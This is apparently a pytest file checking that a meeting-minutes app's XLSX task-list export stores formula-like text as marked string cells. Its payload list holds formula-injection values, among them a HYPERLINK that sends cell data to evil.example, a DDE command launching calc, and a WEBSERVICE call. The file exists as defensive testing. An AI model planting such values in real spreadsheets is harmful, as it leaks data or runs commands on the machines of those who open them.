"""Issue 15, case 1: nothing typed in a meeting becomes a formula in the XLSX task list.

A task, unit, progress note, meeting title or file name that starts like a formula (``= + - @``, or a
tab or CR before one) would run in Excel when the list is opened; every text cell must be a string
cell, marked as typed text, while numbers and dates stay values.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from minutes_app.export.task_list import write_task_list
from minutes_app.model import Directive, Language, Meeting, MeetingInfo, Task
from minutes_app.storage import save_meeting
from minutes_app.storage.task_register import collect_tasks

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&B3,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+WEBSERVICE(\"http://evil.example/\")",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _hostile_folder(folder: Path) -> Path:
    tasks = [Task(task=payload, assignee=PAYLOADS[(i + 1) % len(PAYLOADS)], deadline=dt.date(2025, 3, 20),
                  progress=PAYLOADS[(i + 2) % len(PAYLOADS)]) for i, payload in enumerate(PAYLOADS)]
    meeting = Meeting(language=Language.VI, meeting=MeetingInfo(title="=1+2", date=dt.date(2025, 3, 5)))
    meeting.directives = [Directive(speaker="Võ Thị Hồng Nhung", content="Chỉ đạo", tasks=tasks)]
    save_meeting(meeting, folder / "=WEBSERVICE(1).minutes.json")
    return folder


@pytest.fixture()
def xlsx(tmp_path: Path) -> bytes:
    register = collect_tasks(_hostile_folder(tmp_path), dt.date(2025, 4, 10))
    return write_task_list(register, "xlsx", "vi")


def test_no_cell_is_a_formula(xlsx: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        for name in sheets:
            assert not re.search(rb"<(?:\w+:)?f[ >]", archive.read(name)), f"a formula in {name}"


def test_hostile_text_is_a_marked_string_cell_with_its_words_intact(xlsx: bytes) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    seen = []
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", cell.coordinate
                if cell.value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.quotePrefix, f"{cell.coordinate} {cell.value!r} is not marked as text"
                    seen.append(cell.value)
    assert {payload.strip() for payload in PAYLOADS} <= set(seen)  # shown as typed (the list trims blanks)
    assert any(value.startswith("=WEBSERVICE(1)") for value in seen)  # the file name column
    assert any(value.startswith("=1+2") for value in seen)  # the meeting title, in "given at"


def test_numbers_and_dates_stay_values(xlsx: bytes) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in rows] == list(range(1, len(PAYLOADS) + 1))
    assert all(row[3] == dt.datetime(2025, 3, 20) for row in rows)
    assert all(row[5] == 21 for row in rows)  # days overdue on 10 April
